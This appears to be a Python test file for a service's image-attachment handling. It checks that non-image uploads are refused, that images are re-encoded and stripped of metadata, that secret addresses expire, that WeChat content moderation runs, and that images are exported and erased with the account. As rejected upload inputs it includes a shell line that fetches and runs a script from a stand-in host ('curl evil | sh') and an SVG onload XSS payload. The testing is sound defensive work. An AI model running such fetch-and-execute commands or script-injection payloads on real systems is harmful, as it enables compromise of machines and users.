"""Images that people attach: made anew, private, seen by an address alone, checked by WeChat."""

import asyncio
import io
import uuid
from datetime import timedelta
from typing import Any

import pytest
from PIL import Image
from structlog.testing import LogCapture

from domain.attachments.attachments import Viewer
from domain.errors import NotFound
from handlers import access_log
from server.wiring import Installation
from tests.applying import document, photo
from tests.attaching import added, attach, fetch, upload
from tests.cast import Cast, Person
from tests.conftest import Clock
from tests.erasing import LONG_AGO, erase
from tests.handlers.test_electricity_files import bomb, mistaken, placed, scanned_over_and_over
from tests.handlers.test_exports import data_in, unpacked
from tests.outage import Outage
from tests.problems import check_problem
from tests.staffing import act
from tests.stand_ins import capturing

SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"


@pytest.mark.parametrize(
    ("content", "because"),
    [
        (SCRIPT, "wrong_type"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "wrong_type"),
        (b"GIF89a" + b"\0" * 50, "wrong_type"),
        (document(1), "wrong_type"),
        (photo(400, "PNG")[:-40], "broken"),
        (photo(400)[: len(photo(400)) // 2], "broken"),
        (bomb(), "too_many_pixels"),
        (scanned_over_and_over(), "too_many_scans"),
        (mistaken(), "broken"),
    ],
    ids=["script", "svg", "gif", "pdf", "broken", "truncated", "bomb", "scans", "mistaken"],
)
async def test_what_is_no_image_that_may_be_is_refused_and_recorded(
    newcomer: Person, installation: Installation, content: bytes, because: str
) -> None:
    problem = check_problem(await upload(newcomer, content), 422, "invalid")
    assert [(fault.pointer, fault.code) for fault in problem.errors] == [("/file", because)]
    owner = (await newcomer.get("/v1/me")).json()["id"]
    assert await installation.database["attachments"].count_documents({"owner": owner}) == 0
    chosen = {"action": "attachment.refused", "object_id": owner}
    event = await installation.database["audit_events"].find_one(chosen)
    assert event is not None
    assert event["facts"] == {"because": because}


async def test_a_pdf_is_told_what_to_do_instead(newcomer: Person) -> None:
    problem = check_problem(await upload(newcomer, document(1)), 422, "invalid")
    assert "请截图后添加" in problem.errors[0].detail


@pytest.mark.parametrize("size", [10 * 1024**2 + 20_000, 20 * 1024**2 + 1])
async def test_an_image_of_too_many_bytes_is_too_large(newcomer: Person, size: int) -> None:
    check_problem(await upload(newcomer, b"\0" * size), 413, "too_large")


async def test_an_image_is_made_anew_and_nothing_of_the_place_is_left(
    newcomer: Person, cast: Cast
) -> None:
    image = await added(newcomer, placed())
    assert (image["width"], image["height"]) == (30, 60)
    assert (image["state"], image["by"], image["shown"]) == ("pending", "citizen", "open")
    got = await fetch(cast, image["url"])
    assert (got.status_code, got.headers["Content-Type"]) == (200, "image/jpeg")
    assert got.headers["Cache-Control"] == "no-store"
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in got.headers["Content-Security-Policy"]
    assert got.headers["Content-Disposition"].startswith("inline")
    assert b"script" not in got.content
    with Image.open(io.BytesIO(got.content)) as seen:
        assert seen.size == (30, 60)
        assert dict(seen.getexif()) == {}
    head = await fetch(cast, image["url"], "HEAD")
    assert (head.status_code, head.content) == (200, b"")
    assert head.headers["Content-Length"] == str(len(got.content))


async def test_a_large_photograph_is_kept_no_larger_than_a_screen_shows(newcomer: Person) -> None:
    image = await added(newcomer, photo(3000))
    assert (image["width"], image["height"]) == (2560, 2560)


async def test_an_image_repeated_under_its_key_is_one(
    newcomer: Person, installation: Installation
) -> None:
    first = await upload(newcomer, key="image-0001")
    again = await upload(newcomer, key="image-0001")
    assert again.json() == first.json()
    other = await upload(newcomer, photo(41), key="image-0001")
    check_problem(other, 422, "idempotency_key_reused")
    owner = (await newcomer.get("/v1/me")).json()["id"]
    assert await installation.database["attachments"].count_documents({"owner": owner}) == 1


async def test_nine_come_at_once_and_a_tenth_has_to_wait(newcomer: Person) -> None:
    answers = await asyncio.gather(*(upload(newcomer) for _ in range(9)))
    assert {answer.status_code for answer in answers} == {201}
    problem = check_problem(await upload(newcomer), 409, "too_many_images")
    assert "9 张" in str(problem.detail)
    path = f"/v1/attachments/{answers[0].json()['id']}"
    assert (await newcomer.send("DELETE", path)).status_code == 204
    assert (await upload(newcomer)).status_code == 201


async def test_only_its_owner_takes_an_image_back_and_only_while_it_is_not_attached(
    newcomer: Person, charlie: Person, cast: Cast
) -> None:
    one, two = await added(newcomer), await added(newcomer)
    path = f"/v1/attachments/{one['id']}"
    check_problem(await charlie.send("DELETE", path), 404, "not_found")
    await attach(newcomer, two)
    attached = await newcomer.send("DELETE", f"/v1/attachments/{two['id']}")
    check_problem(attached, 404, "not_found")
    assert (await newcomer.send("DELETE", path)).status_code == 204
    check_problem(await fetch(cast, one["url"]), 404, "not_found")
    assert (await fetch(cast, two["url"])).status_code == 200


@pytest.mark.parametrize("method", ["GET", "HEAD"])
async def test_an_address_that_is_over_or_guessed_opens_nothing(
    newcomer: Person, cast: Cast, clock: Clock, method: str
) -> None:
    """What was handed in lay open: frappe/helpdesk #2074, django-helpdesk #647, uvdesk #270."""
    image = await added(newcomer)
    for guessed in ("A" * 22, "x", "A" * 64, image["id"], str(uuid.uuid4())):
        assert (await fetch(cast, f"/i/{guessed}", method)).status_code == 404
    clock.ahead = timedelta(minutes=10)
    assert (await fetch(cast, image["url"], method)).status_code == 404


async def test_an_image_given_up_is_gone_after_a_day(
    newcomer: Person, installation: Installation, clock: Clock
) -> None:
    image = await added(newcomer)
    house = installation.house
    owner = (await newcomer.get("/v1/me")).json()["id"]
    found = await house.attachments._store.get(image["id"])
    assert found
    clock.ahead = timedelta(hours=24)
    shown = await house.attachments.views(act(house), [found], viewer=Viewer(id=owner))
    assert shown == ()
    path = f"/v1/attachments/{image['id']}"
    await newcomer.sign_in()
    check_problem(await newcomer.send("DELETE", path), 404, "not_found")


async def test_an_address_never_stands_in_the_log(
    newcomer: Person, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    capture = LogCapture()
    monkeypatch.setattr(access_log, "log", capturing(capture))
    image = await added(newcomer)
    await fetch(cast, image["url"])
    assert "/i/{image_secret}" in repr(capture.entries)
    assert image["url"].rpartition("/")[2] not in repr(capture.entries)


# -- WeChat's check ------------------------------------------------------------------------


def picture(colour: str) -> bytes:
    """The stand-in finds red risky, and yellow for review."""
    made = io.BytesIO()
    Image.new("RGB", (60, 40), colour).save(made, "JPEG")
    return made.getvalue()


async def state(installation: Installation, image: dict[str, Any]) -> tuple[str, str]:
    found = await installation.database["attachments"].find_one({"_id": image["id"]})
    assert found
    return found["state"], found["reason"]


async def asked(cast: Cast, image: dict[str, Any]) -> dict[str, Any]:
    """What WeChat was asked of an image, once the workers have."""
    await cast.work()
    assert cast.database
    check = await cast.database["content_checks"].find_one({"object_id": image["id"]})
    assert check
    listed = (await cast.sandbox.get("/sandbox/media-checks")).json()["items"]
    mine: dict[str, Any] = next(one for one in listed if one["trace_id"] == check["trace_id"])
    return mine


async def due_again(cast: Cast, installation: Installation, image: dict[str, Any]) -> None:
    """Let every wait for the check be over, and work."""
    check = await installation.database["content_checks"].find_one({"object_id": image["id"]})
    assert check
    outbox = installation.database["outbox"]
    await outbox.update_many({"object_id": check["_id"]}, {"$set": {"next_at": LONG_AGO}})
    await cast.work()


@pytest.mark.parametrize(
    ("colour", "verdict"), [("navy", "pass"), ("yellow", "review"), ("red", "risky")]
)
async def test_wechat_fetches_the_image_at_its_address_and_its_verdict_ends_the_address(
    newcomer: Person, cast: Cast, installation: Installation, colour: str, verdict: str
) -> None:
    image = await added(newcomer, picture(colour))
    assert (
        await installation.database["content_checks"].find_one({"object_id": image["id"]}) is None
    )
    await attach(newcomer, image)
    check = await asked(cast, image)
    assert (check["openid"], check["scene"]) == (newcomer.persona["openid"], 2)
    assert check["media_url"] != image["url"]
    assert await state(installation, image) == ("pending", "")
    assert (await fetch(cast, check["media_url"])).status_code == 200
    path = f"/sandbox/media-checks/{check['trace_id']}"
    assert (await cast.sandbox.post(path)).raise_for_status().json()["result"]["errcode"] == 0
    await cast.work()
    assert (await state(installation, image))[0] == verdict
    assert (await fetch(cast, check["media_url"])).status_code == 404
    mine = await fetch(cast, image["url"])
    assert mine.status_code == (404 if verdict == "risky" else 200)


async def test_a_result_that_comes_before_the_answer_or_twice_or_late_counts_once(
    newcomer: Person, cast: Cast, installation: Installation
) -> None:
    image = await added(newcomer)
    await attach(newcomer, image)
    check = await asked(cast, image)
    path = f"/sandbox/media-checks/{check['trace_id']}"
    for suggest in ("pass", "pass", "risky"):
        await cast.sandbox.put(path, json={"suggest": suggest})
        await cast.work()
        assert await state(installation, image) == ("pass", "")


async def test_an_image_that_wechat_cannot_fetch_or_says_nothing_of_waits_for_a_person(
    newcomer: Person, cast: Cast, installation: Installation, clock: Clock
) -> None:
    one, two = await added(newcomer), await added(newcomer)
    await attach(newcomer, one, two)
    path = f"/sandbox/media-checks/{(await asked(cast, one))['trace_id']}"
    await cast.sandbox.put(path, json={"errcode": -1008})
    await cast.work()
    assert await state(installation, one) == ("review", "not_checked")
    address = (await asked(cast, two))["media_url"]
    clock.ahead = timedelta(minutes=30)
    await due_again(cast, installation, two)
    assert await state(installation, two) == ("review", "no_answer")
    assert (await fetch(cast, address)).status_code == 404


async def test_in_an_outage_of_hours_an_image_stays_pending_and_is_checked_afterwards(
    newcomer: Person, cast: Cast, installation: Installation, outage: Outage, clock: Clock
) -> None:
    image = await added(newcomer, picture("red"))
    await outage.begin("wechat", kind="error")
    await attach(newcomer, image)
    await cast.work()
    assert await state(installation, image) == ("pending", "")
    clock.ahead = timedelta(hours=5)
    await due_again(cast, installation, image)
    assert await state(installation, image) == ("pending", "")
    await outage.end()
    await newcomer.sign_in()
    await due_again(cast, installation, image)
    check = await asked(cast, image)
    assert (await fetch(cast, check["media_url"])).status_code == 200
    # The stand-in pushes by the real time.
    clock.ahead = timedelta()
    path = f"/sandbox/media-checks/{check['trace_id']}"
    assert (await cast.sandbox.post(path)).json()["result"]["errcode"] == 0
    await cast.work()
    assert await state(installation, image) == ("risky", "porn")


# -- whose data it is ----------------------------------------------------------------------


async def found(installation: Installation, image: dict[str, Any], verdict: str) -> None:
    """As WeChat said."""
    chosen = {"_id": image["id"]}
    await installation.database["attachments"].update_one(chosen, {"$set": {"state": verdict}})


async def test_an_export_has_the_images(
    newcomer: Person, cast: Cast, installation: Installation
) -> None:
    image, risky = await added(newcomer), await added(newcomer)
    to = await attach(newcomer, image, risky)
    seen = await fetch(cast, image["url"])
    await found(installation, risky, "risky")
    archive = await newcomer.archive()
    bad, row = data_in(archive)["sections"]["images"]["rows"]
    assert (row["id"], row["bound_to"], row["state"]) == (image["id"], to, "pending")
    assert unpacked(archive).read(row["file"]) == seen.content
    assert (bad["id"], bad["state"], bad["file"]) == (risky["id"], "risky", None)
    assert f"images/{risky['id']}.jpg" not in unpacked(archive).namelist()


async def test_images_go_with_the_account_wherever_they_are_attached(
    newcomer: Person, cast: Cast, installation: Installation
) -> None:
    one, two = await added(newcomer), await added(newcomer)
    await attach(newcomer, one)
    await erase(newcomer)
    await cast.work()
    for image in (one, two):
        check_problem(await fetch(cast, image["url"]), 404, "not_found")
        for name in ("attachments", "attachment_contents"):
            assert await installation.database[name].find_one({"_id": image["id"]}) is None
        chosen = {"attachment_id": image["id"]}
        assert await installation.database["attachment_addresses"].find_one(chosen) is None
    with pytest.raises(NotFound):
        await installation.house.attachments.read(act(installation.house), secret="x")
